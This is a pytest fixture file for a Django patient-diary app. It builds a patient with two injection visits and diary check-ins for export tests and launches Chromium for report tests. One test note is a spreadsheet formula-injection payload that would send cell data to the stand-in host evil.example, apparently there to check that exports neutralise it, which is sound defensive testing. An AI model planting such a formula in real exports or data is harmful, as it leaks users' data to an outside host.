"""A patient's record with two visits, for the export tests (and Chromium for the report)."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

import pytest
from django.utils import timezone

from accounts.models import User
from diary.models import Entry
from tests.factories import link, make_entry, make_visit
from treatments.models import Visit

T = TypeVar("T")
NECK = {"body_region": "neck", "side": "left", "volume_ml": "1.0"}
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
TRICKY_NOTE = 'Stiff, "tight" band\nbetter after ice. Über ² ok'


@dataclass(frozen=True)
class Record:
    patient: User
    physician: User
    first: Visit
    second: Visit
    entries: list[Entry]
    before: Entry
    deleted: Entry
    others_entry: Entry


def at(start: datetime, day: int, hour: int = 0) -> datetime:
    return start + timedelta(days=day, hours=hour)


@pytest.fixture
def record(patient: User, other_patient: User, physician: User, other_physician: User) -> Record:
    """``patient`` (Berlin), treated by ``physician``.

    Visit 1, 20 days ago at 09:00Z, baseline 8, two muscles (CPT 20552): check-ins on day 0
    (pain 6 and 4), day 1 (8, large bruise), day 3 (4, a formula note), day 5 (2).
    Visit 2, 10 days ago, no recorded baseline (so the mean of the 7 days before counts),
    three muscles (CPT 20553): check-ins on day 0 (5), day 2 (3 and 2, a tricky note).
    One check-in two days before visit 1 (no visit), one deleted, and one of
    ``other_patient`` (treated by ``other_physician``) that must never appear.
    """
    link(physician, patient)
    link(other_physician, other_patient)
    start = (timezone.now() - timedelta(days=20)).replace(hour=9, minute=0, second=0, microsecond=0)
    first = make_visit(
        physician,
        patient,
        start,
        baseline_pain=8,
        post_injection_pain=3,
        condition="myofascial_pain",
        notes="Taut band, local twitch response.",
        sites=[
            {**NECK, "muscle": "Upper trapezius", "injectates": ["lidocaine"]},
            {
                **NECK,
                "muscle": "Levator scapulae",
                "side": "right",
                "injectates": ["saline", "magnesium"],
                "volume_ml": "1.5",
            },
        ],
    )
    second = make_visit(
        physician,
        patient,
        at(start, 10),
        condition="neck_pain",
        sites=[
            {**NECK, "muscle": "Upper trapezius", "injectates": ["lidocaine"]},
            {**NECK, "muscle": "Splenius capitis", "injectates": ["lidocaine"]},
            {
                **NECK,
                "body_region": "upper_back",
                "muscle": "Rhomboid major",
                "injectates": ["saline"],
            },
        ],
    )
    before = make_entry(patient, at(start, -2, 3), pain=7, soreness=0)
    entries = [
        make_entry(patient, at(start, 0, 3), pain=6, soreness=2, iced=True),
        make_entry(patient, at(start, 0, 9), pain=4, soreness=4),
        make_entry(patient, at(start, 1, 1), pain=8, soreness=6, bruising="large"),
        make_entry(patient, at(start, 3, 2), pain=4, soreness=2, notes=FORMULA_NOTE),
        make_entry(patient, at(start, 5, 2), pain=2, soreness=1, heated=True),
        make_entry(patient, at(start, 10, 4), pain=5, soreness=5, strenuous_activity=True),
        make_entry(patient, at(start, 12, 1), pain=3, soreness=3, bruising="small"),
        make_entry(patient, at(start, 12, 8), pain=2, soreness=2, notes=TRICKY_NOTE),
    ]
    deleted = make_entry(patient, at(start, 4, 2), pain=9, soreness=9, notes="typo")
    from diary.actions.delete import entry_delete

    entry_delete(patient=patient, entry_id=deleted.pk, expected_version=None)
    others_entry = make_entry(other_patient, at(start, 1, 2), pain=1, soreness=1, notes="olive")
    return Record(
        patient=patient,
        physician=physician,
        first=first,
        second=second,
        entries=[before, *entries],
        before=before,
        deleted=deleted,
        others_entry=others_entry,
    )


@pytest.fixture(autouse=True)
def _fast_password_hasher(settings: Any) -> None:
    # Every record builds four users; PBKDF2 would make these tests take minutes.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# --- Chromium, launched as tests/e2e does -----------------------------------------------------


@pytest.fixture
def chromium_path() -> str:
    """Debian's Chromium; skipped where missing (never in CI)."""
    from tests.e2e.conftest import CHROMIUM

    if not (Path(CHROMIUM).exists() or shutil.which(CHROMIUM)):
        if os.environ.get("CI"):
            pytest.fail(f"CI must run the browser tests, but {CHROMIUM} is missing.")
        pytest.skip(f"{CHROMIUM} is missing: apt-get install chromium (CI installs it)")
    return CHROMIUM


def in_chromium(chromium: str, check: Callable[[Any], T]) -> T:
    """Run ``check(browser)`` against a Chromium of its own, in a thread of its own.

    Playwright's sync API allows one instance per thread, and tests/e2e keeps a
    session-wide one open in the main thread when both folders run together; the check
    only talks HTTP to the live server, so a thread is all it needs.
    """
    from playwright.sync_api import sync_playwright

    from tests.e2e.conftest import CHROMIUM_FLAGS

    def run() -> T:
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_FLAGS)
            try:
                return check(browser)
            finally:
                browser.close()

    with ThreadPoolExecutor(max_workers=1) as pool:
        return pool.submit(run).result()
